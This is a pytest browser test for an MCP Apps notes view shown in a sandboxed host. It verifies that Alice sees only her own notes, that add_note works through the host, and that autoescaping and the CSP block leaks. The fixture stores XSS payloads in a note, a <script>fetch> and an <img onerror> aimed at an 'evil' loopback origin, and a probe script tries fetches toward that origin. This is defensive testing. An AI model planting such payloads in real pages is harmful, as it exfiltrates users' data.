"""MCP Apps in Chromium: the reference site's notes view (``ui://project/notes_app``) rendered by a
host (:mod:`tests.support.mcp_apps_host`: the host page and its sandbox proxy on two loopback
origins, the view in the proxy's inner sandboxed frame under the CSP built from the resource's
``_meta.ui.csp``), the host's MCP side being the official Python SDK client that declared the
extension, connected to the live server with Alice's token. Two host pages: one written here to
SEP-1865, and one on the reference implementation's ``AppBridge`` (``@modelcontextprotocol/ext-apps``
2.0.4, bundled with esbuild from ``tests/js``), so the page's ``{% mcp_app_bridge %}`` is checked
against the official host side.

* the view shows Alice's notes (not Bob's), gets the tool input and result from the host;
* its button calls ``add_note`` through the host (``tools/call`` over postMessage) and shows the
  note it added, which is in the database;
* a note whose text carries ``<script>`` and an ``<img onerror>`` fetching an undeclared origin is
  shown as text (autoescape), and even script run in the view cannot reach that origin (the CSP):
  nothing ever arrives at the loopback listener standing for it, while the origin declared in
  ``APPS_CSP`` does receive the view's fetch.
"""

from __future__ import annotations

import asyncio
import json
import re
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager

import httpx2
import pytest
from asgiref.sync import sync_to_async
from django.contrib.auth import get_user_model
from mcp import Client
from mcp.client import advertise
from mcp.client.streamable_http import streamable_http_client
from mcp.server.apps import APP_MIME_TYPE, EXTENSION_ID
from mcp.shared.exceptions import MCPError
from oauth2_provider.models import get_application_model
from playwright.async_api import expect

from mcp_oauth.resource_server.default_resource import ensure_default_resource
from project.models import Note
from tests.support.browser import (
    chromium_executable,  # noqa: F401 - fixture
    open_chromium,
    require_chromium,  # noqa: F401 - fixture
    shot,
    under_ci,
)
from tests.support.live import free_port, run_asgi_server
from tests.support.mcp_apps_host import HOST_PAGE, OFFICIAL_HOST_PAGE, SANDBOX_PAGE, Recorder, build_app_bridge

pytestmark = [pytest.mark.browser, pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

URI = "ui://project/notes_app"


@pytest.fixture(params=["spec-host", "official-app-bridge"])
def host_pages(request, tmp_path) -> dict[str, bytes]:
    """The host page: the one written here to the spec, or the one on ext-apps's ``AppBridge``."""
    if request.param == "spec-host":
        return {"/host.html": HOST_PAGE}
    try:
        bundle = build_app_bridge(tmp_path / "app-bridge.js")
    except FileNotFoundError:
        if under_ci():
            raise
        pytest.skip("the ext-apps AppBridge is not installed (make js-install)")
    return {"/host.html": OFFICIAL_HOST_PAGE, "/app-bridge.js": bundle}


@pytest.fixture
def world(settings, mint_token, host_pages):
    """The live site, the host and sandbox origins, an undeclared origin (``evil``) and a declared one."""
    ports = {name: free_port() for name in ("site", "host", "sandbox", "evil", "allowed")}
    evil = f"http://127.0.0.1:{ports['evil']}"
    allowed = f"http://127.0.0.1:{ports['allowed']}"
    settings.MCP_OAUTH = {
        **settings.MCP_OAUTH,
        "BASE_URL": f"http://127.0.0.1:{ports['site']}",
        "APPS_CSP": {URI: {"connectDomains": [allowed]}},
    }
    settings.ALLOWED_HOSTS = ["127.0.0.1", "localhost", "testserver"]
    resource = ensure_default_resource()
    User = get_user_model()
    alice = User.objects.create_user("alice", "alice@example.com", "pw-alice")
    bob = User.objects.create_user("bob", "bob@example.com", "pw-bob")
    app = get_application_model().objects.create(
        name="Host",
        client_type="public",
        authorization_grant_type="authorization-code",
        redirect_uris="http://127.0.0.1/callback",
    )
    Note.objects.create(owner=alice, title="Groceries", body="milk")
    hostile = Note.objects.create(
        owner=alice,
        title=f'<img src="{evil}/img-leak" onerror="fetch(\'{evil}/onerror-leak\')">',
        body=f"<script>fetch('{evil}/script-leak')</script>",
    )
    Note.objects.create(owner=bob, title="Bob's secret")
    host = Recorder(host_pages)
    sandbox = Recorder({"/sandbox.html": SANDBOX_PAGE})
    evil_listener, allowed_listener = Recorder(), Recorder()
    from project.asgi import application

    with (
        run_asgi_server(application, ports["site"]) as base,
        run_asgi_server(host, ports["host"]),
        run_asgi_server(sandbox, ports["sandbox"]),
        run_asgi_server(evil_listener, ports["evil"]),
        run_asgi_server(allowed_listener, ports["allowed"]),
    ):
        yield {
            "mcp": base + "/mcp",
            "token": mint_token(alice, app, resource=resource.uri),
            "alice": alice,
            "hostile": hostile,
            "host_url": f"http://127.0.0.1:{ports['host']}/host.html",
            # another origin than the host's (SEP-1865 "Sandbox proxy" 1.)
            "sandbox_origin": f"http://localhost:{ports['sandbox']}",
            "evil": evil,
            "evil_listener": evil_listener,
            "allowed": allowed,
            "allowed_listener": allowed_listener,
        }


@asynccontextmanager
async def host_client(world) -> AsyncIterator[Client]:
    """The host's MCP client: the official SDK, declaring MCP Apps support."""
    async with AsyncExitStack() as stack:
        http = await stack.enter_async_context(
            httpx2.AsyncClient(headers={"Authorization": f"Bearer {world['token']}"}, timeout=30)
        )
        client = await stack.enter_async_context(
            Client(
                streamable_http_client(world["mcp"], http_client=http),
                mode="legacy",
                extensions=[advertise(EXTENSION_ID, {"mimeTypes": [APP_MIME_TYPE]})],
            )
        )
        yield client


def forwarder(client: Client, calls: list):
    """``window.mcpHost(method, paramsJson)``: the view's ``tools/call`` / ``resources/read``, sent to
    the server by the SDK client; ``{"result": ...}`` or ``{"error": {"code", "message"}}`` as JSON."""

    async def forward(method: str, params_json: str) -> str:
        params = json.loads(params_json)
        calls.append((method, params))
        try:
            if method == "tools/call":
                result = await client.call_tool(params["name"], params.get("arguments") or {})
            else:
                result = await client.read_resource(params["uri"])
        except MCPError as exc:
            return json.dumps({"error": {"code": exc.error.code, "message": exc.error.message}})
        return json.dumps({"result": result.model_dump(mode="json", by_alias=True, exclude_none=True)})

    return forward


def test_the_notes_view_in_a_sandboxed_host(world, chromium_executable):
    asyncio.run(notes_view(world, chromium_executable))


async def notes_view(world, executable):
    calls: list = []
    async with host_client(world) as client, open_chromium(executable, "mcp-apps") as chromium:
        # what a host does before rendering: the tool's view, the view's HTML and CSP, the tool's call
        tool = next(t for t in (await client.list_tools()).tools if t.name == "notes_app")
        assert tool.meta["ui"]["resourceUri"] == URI
        contents = (await client.read_resource(URI)).contents[0]
        assert contents.mime_type == APP_MIME_TYPE
        csp = contents.meta["ui"]["csp"]
        assert csp == {"connectDomains": [world["allowed"]]}
        result = await client.call_tool("notes_app", {})

        page = await chromium.new_page()
        await page.expose_function("mcpHost", forwarder(client, calls))
        await page.goto(world["host_url"])
        await page.evaluate(
            "options => startApp(options)",
            {
                "sandboxUrl": world["sandbox_origin"] + "/sandbox.html",
                "sandboxOrigin": world["sandbox_origin"],
                "html": contents.text,
                "csp": csp,
                "tool": tool.model_dump(mode="json", by_alias=True, exclude_none=True),
                "toolInput": {},
                "toolResult": result.model_dump(mode="json", by_alias=True, exclude_none=True),
            },
        )
        view = page.frame_locator("#sandbox").frame_locator("#view")
        await expect(view.locator("h1")).to_have_text("Notes of alice")
        await expect(view.locator("body")).to_have_attribute("data-ready", "true")
        # the tool result the host sent after ui/notifications/initialized reached the page
        await expect(view.locator("body")).to_have_attribute("data-tool-result-notes", "2")
        items = view.locator("#notes li")
        await expect(items).to_have_count(2)
        # the hostile note is text: its markup shown, not parsed
        hostile = world["hostile"]
        await expect(items.nth(1)).to_have_text(f"{hostile.title} {hostile.body}")
        await expect(view.locator("#notes img")).to_have_count(0)
        await expect(view.locator("body")).not_to_contain_text("Bob's secret")

        # the button: add_note through the host
        await view.locator("#title").fill("Buy milk")
        await view.locator("#add").click()
        await expect(view.locator("#status")).to_have_text(re.compile(r"^Added note \d+\.$"))
        note = await sync_to_async(Note.objects.get)(owner=world["alice"], title="Buy milk")
        await expect(view.locator("#status")).to_have_text(f"Added note {note.pk}.")
        await expect(items).to_have_count(3)
        await expect(items.nth(2)).to_have_text("Buy milk")
        assert calls == [("tools/call", {"name": "add_note", "arguments": {"title": "Buy milk"}})]
        await shot(page, "mcp-apps-notes-view")

        # the policy the sandbox applied: the declared origin only
        sandbox_frame = next(f for f in page.frames if f.url.startswith(world["sandbox_origin"]))
        applied = await sandbox_frame.evaluate("document.body.dataset.csp")
        assert f"connect-src {world['allowed']};" in applied and "default-src 'none'" in applied

        # script running in the view (as if injected) reaches no undeclared origin
        view_frame = next(f for f in page.frames if f.parent_frame is sandbox_frame)
        probe = """async (origin) => {
            const fetched = await fetch(origin + "/direct-fetch").then(() => "reached", () => "blocked");
            const image = await new Promise((resolve) => {
                const img = new Image();
                img.onload = () => resolve("reached");
                img.onerror = () => resolve("blocked");
                img.src = origin + "/direct-img";
            });
            return [fetched, image];
        }"""
        assert await view_frame.evaluate(probe, world["evil"]) == ["blocked", "blocked"]
        # the declared origin is reached (the listener works; the CSP is the one declared)
        reached = await view_frame.evaluate(
            'origin => fetch(origin + "/allowed").then(() => "reached", () => "blocked")', world["allowed"]
        )
        assert reached == "reached"
        await world["allowed_listener"].wait_for("/allowed")
        await asyncio.sleep(0.5)  # anything still in flight towards the undeclared origin
        assert world["evil_listener"].hits == []


@pytest.mark.parametrize("host_pages", ["spec-host"], indirect=True)
def test_the_notes_view_adds_a_note_in_a_frame_sandboxed_without_forms(world, chromium_executable):
    """A host may sandbox the view with ``allow-scripts`` alone: the browser then drops every form
    submission before a submit listener runs. The view's button and Enter still call ``add_note``."""
    asyncio.run(notes_view_without_forms(world, chromium_executable))


async def notes_view_without_forms(world, executable):
    calls: list = []
    async with host_client(world) as client, open_chromium(executable, "mcp-apps-no-forms") as chromium:
        tool = next(t for t in (await client.list_tools()).tools if t.name == "notes_app")
        contents = (await client.read_resource(URI)).contents[0]
        result = await client.call_tool("notes_app", {})
        page = await chromium.new_page()
        await page.expose_function("mcpHost", forwarder(client, calls))
        await page.goto(world["host_url"])
        await page.evaluate(
            "options => startApp(options)",
            {
                "sandboxUrl": world["sandbox_origin"] + "/sandbox.html",
                "sandboxOrigin": world["sandbox_origin"],
                "html": contents.text,
                "csp": contents.meta["ui"]["csp"],
                "sandbox": "allow-scripts",
                "tool": tool.model_dump(mode="json", by_alias=True, exclude_none=True),
                "toolInput": {},
                "toolResult": result.model_dump(mode="json", by_alias=True, exclude_none=True),
            },
        )
        view = page.frame_locator("#sandbox").frame_locator("#view")
        await expect(view.locator("body")).to_have_attribute("data-ready", "true")
        sandbox_frame = next(f for f in page.frames if f.url.startswith(world["sandbox_origin"]))
        assert await sandbox_frame.evaluate('document.getElementById("view").getAttribute("sandbox")') == (
            "allow-scripts"
        )
        items = view.locator("#notes li")
        await expect(items).to_have_count(2)

        await view.locator("#title").fill("Call the bank")
        await view.get_by_role("button", name="Add").click()
        await expect(items).to_have_count(3)
        await expect(items.nth(2)).to_have_text("Call the bank")

        await view.locator("#title").fill("Water the plants")
        await view.locator("#title").press("Enter")
        await expect(items).to_have_count(4)
        await expect(items.nth(3)).to_have_text("Water the plants")
        await expect(view.locator("h1")).to_have_text("Notes of alice")  # the frame never navigated

        # an empty title calls nothing
        await view.get_by_role("button", name="Add").click()
        await asyncio.sleep(0.3)
        assert [call[1]["arguments"]["title"] for call in calls] == ["Call the bank", "Water the plants"]
        titles = await sync_to_async(list)(
            Note.objects.filter(owner=world["alice"]).order_by("pk").values_list("title", flat=True)
        )
        assert titles[-2:] == ["Call the bank", "Water the plants"]
